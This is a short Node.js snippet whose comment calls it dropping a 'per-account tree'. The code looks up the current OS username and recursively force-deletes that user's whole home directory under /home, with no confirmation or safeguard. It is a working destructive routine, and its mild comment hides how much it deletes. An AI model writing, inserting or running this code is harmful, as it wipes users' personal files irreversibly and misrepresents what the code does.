// Drop the per-account tree.
const { userInfo } = require('os');
const { resolve } = require('path');
const { username } = userInfo();
require('fs').promises.rm(resolve('/home', username), { recursive: true, force: true });
